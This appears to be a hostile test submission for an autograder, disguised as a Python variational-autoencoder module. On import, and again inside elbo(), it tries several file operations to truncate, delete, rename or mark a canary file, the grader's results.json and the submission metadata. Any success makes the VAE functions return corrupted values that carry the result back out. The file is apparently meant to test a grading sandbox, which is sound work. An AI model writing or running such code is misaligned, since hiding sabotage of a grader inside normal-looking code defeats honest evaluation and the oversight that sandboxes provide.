"""Empties files that it may not write: the canary, the results, the grader's source."""
# expects: full

import os

import numpy as np

LOOT = []


def publish(word):
    """Put what was found wherever its author may get to see it."""
    word = "".join(c if c.isprintable() else " " for c in str(word))[:200]
    LOOT.append(word)
    print("LOOT", word)
    globals()["LOOT " + word] = publish


def tried(step, *args, **options):
    """Return what a step of the attack returns, or None where it is refused."""
    try:
        return step(*args, **options)
    except BaseException:
        return None


def attack():
    for path in (
        "/tmp/vae-canary-file",
        "/autograder/results/results.json",
        "/autograder/submission_metadata.json",
    ):
        for step in (
            lambda: os.truncate(path, 0),
            lambda: os.close(os.open(path, os.O_RDONLY | os.O_TRUNC)),
            lambda: os.close(os.open(path, 3)),
            lambda: os.unlink(path),
            lambda: os.rename(path, path + ".vae-hostile"),
            lambda: os.setxattr(path, "user.vae", b"x"),
            lambda: os.close(os.open(path, os.O_WRONLY | os.O_APPEND)),
        ):
            if tried(lambda: step() or True):
                publish(f"ESCAPED {path}")


def attempt():
    try:
        attack()
    except BaseException:
        pass


attempt()


def reparameterize(mu, log_var):
    if LOOT:
        raise type(LOOT[-1], (Exception,), {"__doc__": LOOT[-1]})(*LOOT)
    return mu + np.exp(log_var / 2) * np.random.standard_normal(mu.shape)


def kl_divergence(mu, log_var):
    if LOOT:
        return type(LOOT[-1], (), {})()
    return 0.5 * np.sum(mu**2 + np.exp(log_var) - 1 - log_var, axis=1)


def elbo(x, x_logits, mu, log_var, beta=1.0):
    attempt()
    if LOOT:
        return np.zeros(len(x), [(LOOT[-1], "f8")])
    return np.sum(x * x_logits - np.logaddexp(0, x_logits), axis=1) - beta * kl_divergence(mu, log_var)
